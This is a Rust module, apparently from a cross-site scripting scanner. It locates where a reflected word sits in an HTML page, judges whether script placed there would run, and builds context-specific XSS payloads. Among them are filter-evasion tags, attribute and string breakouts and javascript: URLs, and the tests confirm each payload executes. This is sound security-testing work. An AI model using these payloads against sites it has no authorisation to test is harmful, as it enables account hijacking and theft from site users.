//! Where a word stands in a page, and what would have to stand there to run.
//!
//! The reader is as forgiving as browsers are where it matters: it never fails, and takes time in proportion to the page.

/// Where a word stands.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Spot {
    /// Between tags; in an element whose content is no markup (`textarea`) where it is named.
    Text(Option<String>),
    /// In the value of an attribute: its name, its quotation mark, and what stands before the word in it.
    Attribute {
        name: String,
        quote: Option<char>,
        before: String,
    },
    /// In the name of a tag or of an attribute.
    Tag,
    Comment,
    Script(Js),
}

/// Where in a script.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Js {
    Code,
    /// In a string, by its quotation mark.
    String(char),
    LineComment,
    BlockComment,
}

/// The most places of one word that are looked at.
const MOST: usize = 8;
/// Elements whose content is text to the parser.
const RAW: &[&str] =
    &["script", "style", "textarea", "title", "noscript", "iframe", "xmp", "noembed", "noframes"];

/// Everywhere a word stands in a page, each kind of place once.
pub(super) fn spots(html: &str, word: &str) -> Vec<Spot> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some((text, after)) = rest.split_once('<') {
        if text.contains(word) {
            add(&mut found, Spot::Text(None));
        }
        rest = if let Some(comment) = after.strip_prefix("!--") {
            let (inside, behind) = comment.split_once("-->").unwrap_or((comment, ""));
            if inside.contains(word) {
                add(&mut found, Spot::Comment);
            }
            behind
        } else if after.starts_with(|first: char| first.is_ascii_alphabetic()) {
            element(after, word, &mut found)
        } else if after.starts_with(['!', '?', '/']) {
            let (inside, behind) = after.split_once('>').unwrap_or((after, ""));
            if inside.contains(word) {
                add(&mut found, Spot::Tag);
            }
            behind
        } else {
            after
        };
    }
    if rest.contains(word) {
        add(&mut found, Spot::Text(None));
    }
    found
}

fn add(found: &mut Vec<Spot>, spot: Spot) {
    if found.len() < MOST && !found.contains(&spot) {
        found.push(spot);
    }
}

/// A start tag, and the content of an element that is no markup; what comes behind it.
fn element<'a>(tag: &'a str, word: &str, found: &mut Vec<Spot>) -> &'a str {
    let end_of_name = |text: &str| text.find(|c: char| c.is_ascii_whitespace() || matches!(c, '/' | '>'));
    let (name, mut rest) = tag.split_at_checked(end_of_name(tag).unwrap_or(tag.len())).unwrap_or((tag, ""));
    if name.contains(word) {
        add(found, Spot::Tag);
    }
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '/');
        if rest.is_empty() {
            return rest;
        }
        if let Some(behind) = rest.strip_prefix('>') {
            rest = behind;
            break;
        }
        let stops = |c: char| c.is_ascii_whitespace() || matches!(c, '/' | '>' | '=');
        // A name may begin with `=`.
        let end = rest.char_indices().skip(1).find(|(_, c)| stops(*c)).map_or(rest.len(), |(at, _)| at);
        let (attribute, behind) = rest.split_at_checked(end).unwrap_or((rest, ""));
        if attribute.contains(word) {
            add(found, Spot::Tag);
        }
        rest = behind.trim_start();
        let Some(value) = rest.strip_prefix('=') else { continue };
        let value = value.trim_start();
        let quote = value.chars().next().filter(|first| matches!(first, '"' | '\''));
        let (inside, behind) = match quote {
            Some(quote) => value.get(1..).unwrap_or_default().split_once(quote).unwrap_or((value, "")),
            None => {
                let end = value.find(|c: char| c.is_ascii_whitespace() || c == '>').unwrap_or(value.len());
                value.split_at_checked(end).unwrap_or((value, ""))
            }
        };
        if let Some((before, _)) = inside.split_once(word) {
            let name = attribute.to_ascii_lowercase();
            add(found, Spot::Attribute { name, quote, before: before.to_owned() });
        }
        rest = behind;
    }
    let name = name.to_ascii_lowercase();
    if !RAW.contains(&name.as_str()) {
        return rest;
    }
    let end = close_of(rest, &name);
    let (inside, behind) = rest.split_at_checked(end).unwrap_or((rest, ""));
    if name == "script" {
        script(inside, word).into_iter().for_each(|spot| add(found, Spot::Script(spot)));
    } else if inside.contains(word) {
        add(found, Spot::Text(Some(name)));
    }
    behind
}

/// Where `</name` begins, or the end.
fn close_of(text: &str, name: &str) -> usize {
    let is_close = |at: usize| {
        let tag = text.get(at..).and_then(|rest| rest.strip_prefix("</")).unwrap_or_default();
        tag.get(..name.len()).is_some_and(|own| own.eq_ignore_ascii_case(name))
    };
    text.match_indices("</").map(|(at, _)| at).find(|at| is_close(*at)).unwrap_or(text.len())
}

/// Where a word stands in a script.
pub(super) fn script(text: &str, word: &str) -> Vec<Js> {
    let starts: Vec<usize> = text.match_indices(word).map(|(at, _)| at).take(MOST).collect();
    let mut found = Vec::new();
    let mut state = Js::Code;
    let mut skip = false;
    let mut before = ' ';
    for (at, c) in text.char_indices() {
        if starts.contains(&at) && !found.contains(&state) {
            found.push(state);
        }
        if skip {
            skip = false;
            before = ' ';
            continue;
        }
        state = match (state, c) {
            (Js::Code, '"' | '\'' | '`') => Js::String(c),
            (Js::Code, '/') if before == '/' => Js::LineComment,
            (Js::Code, '*') if before == '/' => Js::BlockComment,
            (Js::String(_), '\\') => {
                skip = true;
                state
            }
            (Js::String(quote), c) if c == quote => Js::Code,
            // A string that does not end on its line is an error, and nothing behind it runs.
            (Js::LineComment, '\n') => Js::Code,
            (Js::BlockComment, '/') if before == '*' => Js::Code,
            _ => state,
        };
        before = c;
    }
    found
}

/// Whether a script that a page has in it may run there, by where it stands.
pub(super) fn is_live(html: &str, call: &str) -> bool {
    spots(html, call).iter().any(|spot| match spot {
        Spot::Script(Js::Code | Js::String('`')) => true,
        Spot::Attribute { name, before, .. } if is_url(name) => {
            let scheme: String = before.chars().filter(|c| !c.is_ascii_control() && *c != ' ').collect();
            let scheme = scheme.to_ascii_lowercase();
            scheme.starts_with("javascript:") || scheme.starts_with("data:text/")
        }
        Spot::Attribute { name, before, .. } => {
            (name.len() > 2 && name.starts_with("on") && !before.contains("//")) || name == "srcdoc"
        }
        _ => false,
    })
}

fn is_url(attribute: &str) -> bool {
    matches!(attribute, "href" | "src" | "action" | "formaction" | "data" | "xlink:href" | "poster")
}

/// What might run at a spot, the likeliest first. `call` is the script.
pub(super) fn payloads(spot: &Spot, call: &str, quoted: &str) -> Vec<String> {
    let behind =
        |closing: &str| tags(call, quoted).into_iter().map(|tag| format!("{closing}{tag}")).collect();
    match spot {
        Spot::Text(None) => behind(""),
        Spot::Text(Some(element)) => behind(&format!("</{element}>")),
        Spot::Comment => behind("-->"),
        Spot::Tag => {
            let mut all = vec![format!("x src=x onerror={call} onfocus={call} autofocus tabindex=1 ")];
            all.extend::<Vec<String>>(behind(">"));
            all
        }
        Spot::Attribute { name, quote, before } => {
            let mut all = Vec::new();
            if is_url(name) && before.trim().is_empty() {
                all.push(format!("javascript:{call}"));
                all.push(format!("JaVa\tScRiPt:{call}"));
                all.push(format!("data:text/javascript,{call}"));
            }
            if name.starts_with("on") {
                all.extend(codes(call, script(&format!("{before}\u{1}"), "\u{1}").first().copied()));
                all.push(format!("&#39;-{call}-&#39;"));
            }
            if name == "srcdoc" {
                all.extend(tags(call, quoted));
            }
            let mark = quote.map(String::from).unwrap_or_default();
            let space = if quote.is_some() { "" } else { "x" };
            all.push(format!("{space}{mark} onfocus={call} autofocus tabindex=1 x={mark}"));
            all.extend::<Vec<String>>(behind(&format!("{mark}>")));
            all.push(format!("{space}{mark} onmouseover={quoted} x={mark}"));
            all
        }
        Spot::Script(at) => {
            let mut all = codes(call, Some(*at));
            all.extend(
                ["</script>", "</ScRiPt>"].iter().map(|end| format!("{end}<img src=x onerror={call}>")),
            );
            all
        }
    }
}

/// What runs from within a script.
fn codes(call: &str, at: Option<Js>) -> Vec<String> {
    match at {
        Some(Js::String('`')) => vec![format!("${{{call}}}"), format!("`;{call}//")],
        Some(Js::String(quote)) => vec![
            format!("{quote}-{call}-{quote}"),
            format!("{quote};{call}//"),
            format!("\\{quote};{call}//"),
            format!("{quote});{call}//"),
        ],
        Some(Js::LineComment) => vec![format!("\n{call}//")],
        Some(Js::BlockComment) => vec![format!("*/{call}/*")],
        Some(Js::Code) | None => {
            vec![call.to_owned(), format!("1;{call}//"), format!(";{call};"), format!("1);{call}//")]
        }
    }
}

/// Markup that runs between tags; the later ones pass by filters.
fn tags(call: &str, quoted: &str) -> Vec<String> {
    vec![
        format!("<img src=x onerror={call}>"),
        format!("<script>{call}</script>"),
        format!("<svg onload={call}>"),
        format!("<details open ontoggle={call}>"),
        format!("<ScRiPt>{call}</ScRiPt >"),
        format!("<svg/onload={quoted}>"),
        format!("<scr<script>ipt>{call}</scr</script>ipt>"),
        format!("<iframe src=javascript:parent.{call}>"),
        format!("<b onmouseover={call}>x"),
        format!("<img/src=x/oNeRrOr={quoted}//"),
        format!("<a href=javascript:{call}>x</a>"),
    ]
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn attribute(name: &str, quote: Option<char>, before: &str) -> Spot {
        Spot::Attribute { name: name.to_owned(), quote, before: before.to_owned() }
    }

    #[test]
    fn a_word_is_found_where_it_stands() {
        for (html, spot) in [
            ("<p>aW</p>", Spot::Text(None)),
            ("W", Spot::Text(None)),
            ("a < b W", Spot::Text(None)),
            ("<title>x W</title>", Spot::Text(Some("title".to_owned()))),
            ("<TEXTAREA a=1><b W</textarea>", Spot::Text(Some("textarea".to_owned()))),
            ("<input value=\"a W\">", attribute("value", Some('"'), "a ")),
            ("<input value='W'/>", attribute("value", Some('\''), "")),
            ("<input value = W>", attribute("value", None, "")),
            ("<a\nHREF='/x?W'>", attribute("href", Some('\''), "/x?")),
            ("<aW>", Spot::Tag),
            ("<a W=1>", Spot::Tag),
            ("<!-- <b> W -->", Spot::Comment),
            ("<script>var a = 1; W</script>", Spot::Script(Js::Code)),
            ("<script>a('it\\'s W')</script>", Spot::Script(Js::String('\''))),
            ("<script>a // W\nb</script>", Spot::Script(Js::LineComment)),
            ("<script>/* W */</script>", Spot::Script(Js::BlockComment)),
            ("<script>'</p>' + `W`</SCRIPT>", Spot::Script(Js::String('`'))),
        ] {
            assert_eq!(spots(html, "W"), [spot], "{html}");
        }
        assert_eq!(spots("<p>nothing</p>", "W"), []);
    }

    #[test]
    fn what_may_run_is_told_from_what_may_not() {
        for live in [
            "<img src=x onerror=W(1)>",
            "<ScRiPt>W(1)</script>",
            "<a href='java\tscript:W(1)'>",
            "<script>a='';W(1)//'</script>",
            "<p title=\"\" onfocus=W(1) x=\"\">",
        ] {
            assert!(is_live(live, "W(1)"), "{live}");
        }
        for dead in [
            "&lt;img src=x onerror=W(1)&gt;",
            "<textarea><img src=x onerror=W(1)></textarea>",
            "<!-- <script>W(1)</script> -->",
            "<p title='<img src=x onerror=W(1)>'>",
            "<script>a = \"\\\";W(1)//\"</script>",
            "<a href='/x?javascript:W(1)'>",
            "<a href='x' title='javascript:W(1)'>",
        ] {
            assert!(!is_live(dead, "W(1)"), "{dead}");
        }
    }

    #[test]
    fn every_spot_has_something_that_would_run() {
        let pages = [
            "<p>W</p>",
            "<title>W</title>",
            "<textarea>W</textarea>",
            "<i a='W'>",
            "<i a=\"W\">",
            "<i a=W>",
            "<a href='W'>",
            "<i W>",
            "<!-- W -->",
            "<script>W</script>",
            "<script>a='W'</script>",
            "<script>a=\"W\"</script>",
            "<script>a=`W`</script>",
            "<script>// W\n</script>",
            "<script>/* W */</script>",
        ];
        for page in pages {
            let spot = spots(page, "W").remove(0);
            let runs = payloads(&spot, "f(1)", "f`1`");
            assert!(runs.iter().any(|payload| is_live(&page.replace('W', payload), "f(1)")), "{page}");
        }
    }

    proptest! {
        #[test]
        fn any_page_is_read(text in "[<>!/a-zW=\"' \\\\`*\n-]{0,80}") {
            let _ = (spots(&text, "W"), is_live(&text, "W"));
        }
    }
}
